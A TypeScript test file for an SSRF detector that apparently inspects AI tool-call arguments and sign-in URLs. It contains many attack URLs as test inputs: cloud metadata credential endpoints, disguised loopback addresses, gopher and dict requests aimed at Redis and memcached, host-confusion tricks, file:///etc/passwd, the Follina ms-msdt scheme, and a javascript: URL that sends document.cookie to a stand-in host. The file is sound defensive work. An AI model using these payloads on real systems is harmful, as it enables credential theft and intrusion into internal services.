import { describe, expect, it } from 'vitest';
import { createInspector } from '../../src/inspect/create-inspector.js';
import { classify } from '../../src/inspect/detectors/ssrf/classify.js';
import type { Surface } from '../../src/inspect/inspector.js';
import type { Finding } from '../../src/pdp/input-document.js';
import type { JsonObject } from '../../src/protocol/json/json.js';
import * as fc from '../properties.js';

const inspector = createInspector();

function found(value: JsonObject, surface: Surface = 'arguments'): readonly Finding[] {
  const seen = inspector.inspect({ surface, method: 'tools/call', tool: 'fetch', value, root: '/arguments', pathArguments: [] });
  expect(seen.complete).toBe(true);
  return seen.findings.filter(({ detector }) => detector === 'ssrf');
}
const said = (value: JsonObject) => found(value).map(({ rule, confidence }) => `${rule.slice('ssrf.'.length)}:${confidence}`);

it('still knows an address that a digit of Latin-1 disguises after a hundred thousand others: V8 has compiled what reads it', () => {
  for (let other = 0; other < 100_000; other++) classify(`0x${other % 200}`);
  expect(classify('¹0.1')?.class).toBe('private');
});

describe('server-side request forgery', () => {
  it.each([
    ['the credentials of the machine', 'http://169.254.169.254/latest/meta-data/iam', 'metadata'],
    ['the same by name', 'http://metadata.google.internal/computeMetadata/v1/', 'metadata'],
    ['the same by one word', 'http://metadata/computeMetadata/v1/', 'metadata'],
    ['the same on IPv6', 'http://[fd00:ec2::254]/latest', 'metadata'],
    ['another cloud', 'http://100.100.100.200/latest/meta-data/', 'metadata'],
    ['an address out of a name', 'http://169.254.169.254.nip.io/', 'metadata'],
    ['a last dot', 'http://169.254.169.254./', 'metadata'],
    ['the neighbours on the link', 'http://169.254.1.1/', 'link_local'],
    ['a zone', 'http://[fe80::1%25eth0]/', 'link_local'],
    ['one number', 'http://2130706433/', 'disguised'],
    ['octal', 'http://0177.0.0.1/', 'disguised'],
    ['hexadecimal', 'http://0x7f.0x0.0x0.0x1/', 'disguised'],
    ['mixed', 'http://0x7f.1/', 'disguised'],
    ['a short form', 'http://127.1:8080/', 'disguised'],
    ['nothing at all', 'http://0/', 'disguised'],
    ['no slashes', 'http:2852039166', 'metadata'],
    ['IPv4 in IPv6', 'http://[::ffff:127.0.0.1]/', 'disguised'],
    ['IPv4 translated', 'http://[64:ff9b::7f00:1]/', 'disguised'],
    ['IPv4 tunnelled', 'http://[2002:7f00:1::]/', 'disguised'],
    ['digits in circles', 'http://①②⑦.⓪.⓪.①/', 'disguised'],
    ['ideographic dots', 'http://127。0。0。1/', 'disguised'],
    ['letters in circles', 'http://ⓛocalhost/', 'disguised'],
    ['percent encoding in the host', 'http://%6c%6fcalhost/', 'disguised'],
    ['a scheme that browsers do not know', 'acap://0251.0376.0251.0376/', 'metadata'],
    ['another name of this machine', 'localhost4.localdomain4/', 'loopback_name'],
    ['another address of this machine', 'http://127.88.23.245/', 'loopback_name'],
    ['a public name of this machine', 'http://app.localtest.me/', 'wildcard_name'],
    ['the control plane', 'https://kubernetes.default.svc.cluster.local/api', 'control_plane'],
    ['an address of nobody', 'http://[a::]/', 'reserved'],
    ['a service that is no web server', 'http://127.0.0.1:6379/', 'service_port'],
    ['a service of this machine', 'http://localhost/', 'service_port'],
    ['the same with its port', 'https://localhost:443/', 'service_port'],
    ['the same without a scheme', 'localhost/admin', 'service_port'],
    ['the machine that a container runs on', 'host.docker.internal/', 'service_port'],
    ['a number too large for an address', 'http://0x41414141A9FEA9FE/', 'disguised'],
    ['numbers too large for their places', 'http://425.510.425.510/', 'disguised'],
    ['a proxy of this machine', 'http://[::1]:3128/', 'service_port'],
    ['gopher', 'gopher://example.com:25/_HELO', 'scheme'],
    ['dict', 'dict://127.0.0.1:11211/stats', 'scheme'],
    ['a host shown and another meant', 'http://example.com@127.0.0.1/', 'userinfo'],
    ['two of these', 'http://a.example:80 &@b.example:80# @127.0.0.1:22/', 'disputed_host'],
    ['a backslash in front of the host', 'https://example.com\\@127.0.0.1/', 'disputed_host'],
    ['backslashes in the host', 'http://\\\\l\\\\o\\\\c\\\\a\\\\l', 'disputed_host'],
    ['a long query behind it', `http://169.254.169.254/?${'a'.repeat(100_000)}`, 'metadata'],
    ['a long name in front of it', `http://${'a'.repeat(5_000)}@169.254.169.254/`, 'metadata'],
    ['an address in a redirector', 'https://example.com/go?to=http://169.254.169.254/latest', 'nested'],
    ['the same, encoded', 'https://example.com/go?to=http%3A%2F%2F169.254.169.254%2Flatest', 'nested'],
    ['an address in the path of a redirector', 'https://example.com/301-http-169.254.169.254:80-.x.xml', 'nested'],
    ['a scheme in a redirector', 'https://example.com/go?to=gopher://127.0.0.1:6379/_x', 'scheme'],
    ['a host where others have their names', 'https://shop.example.com@evil.example.net/', 'userinfo'],
    ['the same with a port', 'https://shop.example.com:443@evil.example.net/', 'userinfo'],
    ['the same with what ends a host', 'https://shop.example.com&x@evil.example.net/', 'userinfo'],
    ['slashes of two kinds', '/\\evil.example.net', 'disputed_host'],
    ['three slashes', '///evil.example.net', 'disputed_host'],
    ['a tab for a host', 'https://%09/example.com', 'disputed_host'],
    ['a line break behind the host', 'https://evil.example.net%0d%0aX-A:b', 'disputed_host'],
    ['a mail address with a port behind it', 'https://me%40evil.example.net:80@shop.example.com/', 'disputed_host'],
    ['a mail address of the machine', 'https://me%40169.254.169.254:pw@shop.example.com/', 'disputed_host'],
    ['a host in front of a mail address', 'https://shop.example.com%40evil.com:pw@evil.example.net/', 'disputed_host'],
    ['two mail addresses', 'https://me%40a.example.com%40b.example.com:pw@c.example.com/', 'disputed_host'],
    ['an encoded port between two hosts', 'http://evil.example.net%3a443.shop.example.com', 'disputed_host'],
    ['an encoded fragment between two hosts', 'http://evil.example.net%23shop.example.com/', 'disputed_host'],
    ['a letter that holds a slash', 'https://evil.c℀.example.com', 'disputed_host'],
    ['a return between two hosts', 'http://evil.example.net\rshop.example.com', 'disputed_host'],
    ['a semicolon between two hosts', 'http://evil.example.net;shop.example.com', 'disputed_host'],
    ['a sign behind an address', 'http://127.0.0.1!/', 'disputed_host'],
    ['a label of signs', 'http://shop.example.com.{.evil.example.net', 'disputed_host'],
    ['a port that goes on with letters', 'http://localhost:+11211aaa', 'disputed_host'],
    ['a part that is too large', 'http://8.0x1ffffff/', 'disguised'],
    ['digits in circles within brackets', 'http://[0:0:0:0:0:ffff:1㉗.0.0.1]/', 'disguised'],
    ['a name that answers by turns', 'http://7f000001.c0a80001.rbndr.us/', 'wildcard_name'],
    ['a public name of this machine, of another list', 'http://bugbounty.dod.network/', 'wildcard_name'],
  ])('is certain of %s', (_, url, rule) => {
    expect(said({ url })).toContain(`${rule}:high`);
  });

  it.each([
    ['a server that somebody develops', 'http://localhost:3000/', ['loopback:medium']],
    ['the same by address', 'http://127.0.0.1:8080/health', ['loopback:medium']],
    ['all addresses, as servers print them', 'http://0.0.0.0:8000/', ['loopback:medium']],
    ['a database of this machine', 'postgres://john.doe:pw@localhost:5432/db', ['loopback:medium']],
    ['a machine of the network', 'http://192.168.1.10/', ['private:low']],
    ['a page', 'https://example.com/a?b=c@d.example', []],
    ['a page, where to return to', 'https://login.example.com/?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback', []],
    ['an account that is named by a mail address', 'https://me%40example.com:pw@git.example.com/team/app.git', []],
    ['the same without a password, on a host of one word', 'https://john.doe%40example.com@nas/files', []],
    ['an address with a mistake', 'http://93.184.216.340/', []],
    ['a page by address', 'http://93.184.216.34/', []],
    ['an IPv6 page', 'http://[2606:4700::1111]/', []],
    ['an example of the documentation', 'http://[2001:db8::1]/', []],
    ['a name in another script', 'https://münchen.example.com/', []],
    ['no scheme', 'example.com/path', []],
    ['a port without a scheme', 'localhost:3000', []],
    ['a relative one', 'metadata/x.json', []],
    ['a last dot', 'https://example.com./', []],
    ['text after it', 'https://example.com is our site', []],
    ['a picture in the URL', 'data:text/html,<a href="http://localhost/">x</a>', []],
    ['mail', 'mailto:a@example.com', []],
    ['a person with a dot in front of the host', 'https://john.doe@dev.example.com/x.git', []],
    ['a token in front of the host', 'https://x-access-token:abc@git.example.com/a.git', []],
    ['a registry with its name for a user and a password', 'https://registry.example.com:pass@registry.example.com/', []],
    ['a query behind a sign too few', 'https://example.com&page=2', []],
    ['two hosts with their ports', 'http://es1.example.com:9200,es2.example.com:9200', []],
    ['two URLs', 'https://a.example.com;https://b.example.com', []],
    ['lines of hosts', 'https://a.example.com\nb.example.com', []],
    ['a placeholder for the host', 'https://{tenant}.example.com/api', []],
    ['a pattern of a host', 'http://archive\\.example\\.com/ubuntu/', []],
    ['a placeholder for the port', 'http://localhost:{PORT}/', ['loopback:medium']],
    ['any name below a domain', 'https://*.example.com/', []],
    ['a path encoded whole', 'https://example.com%2Fpath%2Fx.html', []],
    ['a page about redirectors', 'https://example.com/why-http-2-is-faster', []],
    ['a folder with three slashes', '///srv/data/x.csv', []],
    ['a mark behind an address in Chinese', 'http://example.com？', []],
  ])('says of %s no more than it is', (_, url, expected) => {
    expect(said({ url })).toEqual(expected);
  });

  it.each([
    [{ host: '169.254.169.254' }, ['metadata:high']],
    [{ hostname: '0x7f000001' }, ['disguised:high']],
    [{ host: 'metadata.google.internal:80' }, ['metadata:high']],
    [{ host: 'http://169.254.169.254/latest/meta-data/' }, ['metadata:high']],
    [{ domain: '169.254.169.254/latest/meta-data/' }, ['metadata:high']],
    [{ query: 'http://0x7f000001/' }, ['disguised:high']],
    [{ repo: 'gopher://10.0.0.5:6379/_x' }, ['scheme:high']],
    [{ value: 'http:[::ffff:a9fe:a9fe]' }, ['metadata:high']],
    [{ value: 'http:2852039166' }, ['metadata:high']],
    [{ value: 'http:127.1' }, ['disguised:high']],
    [{ 'http://[::ffff:a9fe:a9fe]/': 1 }, ['metadata:high']],
    [{ value: 'http:0/admin' }, ['disguised:high']],
    [{ host: 'http:0' }, ['disguised:high']],
    [{ hostname: 'https:127' }, ['disguised:high']],
    [{ url: 'http:0' }, ['disguised:high']],
    // A port by its name, and a status.
    [{ port: 'http:0' }, []],
    [{ service: 'https:443' }, []],
    [{ port: 'http:8080' }, []],
    [{ key: 'http:500' }, []],
    [{ target: '169.254.169.254' }, ['metadata:high']],
    [{ target: 'metadata.google.internal' }, ['metadata:high']],
    [{ target: '3.11' }, []],
    [{ server: '10.2' }, []],
    [{ repo: 'https://git.example.com/a.git' }, []],
    [{ ip: '169.254.0.0/16' }, []],
    [{ ip: '127.0.0.0/8' }, []],
    [{ title: 'http://169.254.169.254/latest/meta-data/' }, ['metadata:high']],
    [{ title: 'Calls to http://169.254.169.254/ are never made' }, []],
    [{ host: 'localhost' }, []],
    [{ host: '192.168.0.10' }, []],
    [{ ip: '::ffff:10.0.0.1' }, []],
    [{ ip: 'fe80::1' }, []],
    [{ host: '8080' }, []],
    [{ text: 'the address 169.254.169.254 is where http://2130706433/ leads' }, []],
  ])('of a host by itself, %j: %j', (value, expected) => {
    expect(said(value)).toEqual(expected);
  });

  it('says where, and reads no answers', () => {
    const url = 'http://user@0x7f.1/x';
    const [finding] = found({ url });
    expect(url.slice(...(finding?.span ?? [0, 0]))).toBe('0x7f.1');
    expect(found({ url }, 'result')).toEqual([]);
  });
});

it('reads a name as the WHATWG standard does, without asking it or with', () => {
  const label = fc.oneof(
    fc.stringMatching(/^[A-Za-z0-9-]{1,8}$/),
    fc.constantFrom('xn--', 'xn--mnchen-3ya', '0x7f', '127', '1e1', 'a-', '-a', '', '_x'),
  );
  fc.assert(
    fc.property(fc.array(label, { minLength: 1, maxLength: 5 }), (labels) => {
      const name = labels.join('.');
      const read = URL.canParse(`http://${name}/`) ? new URL(`http://${name}/`).hostname.replace(/\.$/, '') : '';
      expect(classify(name)?.host ?? '').toBe(read);
    }),
    { numRuns: 2_000 },
  );
});

describe('a page that a server has a person visit', () => {
  const asked = (url: string) =>
    found({ mode: 'url', message: 'Please sign in.', elicitationId: 'e', url }, 'elicitation').map(
      ({ rule, confidence }) => `${rule}:${confidence}`,
    );

  it.each([
    ['a script', 'javascript:fetch("https://e.example/"+document.cookie)', 'ssrf.scheme'],
    ['the same as a browser reads it', ' \u0001jAva\tscr\nipt:alert(1)', 'ssrf.scheme'],
    ['the same behind much of what a browser leaves out', `${' '.repeat(300)}java${'\t'.repeat(2_000)}script:alert(1)`, 'ssrf.scheme'],
    ['a page of its own', 'data:text/html,<form action=https://e.example>', 'ssrf.scheme'],
    ['a file', 'file:///etc/passwd', 'ssrf.scheme'],
    ['what Windows runs (CVE-2022-30190)', 'ms-msdt:/id PCWDiagnostic /skip force', 'ssrf.scheme'],
    ['a search that opens a share', 'search-ms:query=x&crumb=location:%5C%5Ce.example%5Cs', 'ssrf.scheme'],
    ['a service that is no page', 'gopher://example.com:25/', 'ssrf.scheme'],
    ['the credentials of the machine', 'http://169.254.169.254/latest/meta-data/iam', 'ssrf.metadata'],
    ['one host shown, another meant', 'https://github.com@e.example/login', 'ssrf.userinfo'],
  ])('is none: %s', (_, url, rule) => expect(asked(url)).toContain(`${rule}:high`));

  it.each([
    ['of a service', 'https://github.com/login/oauth/authorize?client_id=x&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback'],
    ['of a company', 'https://sso.corp.example:8443/authorize?state=javascript:'],
    ['of a program', 'vscode://vscode.github-authentication/did-authenticate'],
    ['of a mail', 'mailto:support@example.com'],
  ])('%s', (_, url) => expect(asked(url)).toEqual([]));

  it('may be on the machine, which is only noted', () => expect(asked('http://localhost:3000/connect')).toEqual(['ssrf.loopback:medium']));

  it('is looked at where the same was the argument of a call before', () => {
    const url = 'javascript:void(document.title)';
    expect(found({ url })).toEqual([]);
    expect(asked(url)).toEqual(['ssrf.scheme:high']);
    expect(found({ url })).toEqual([]);
  });
});
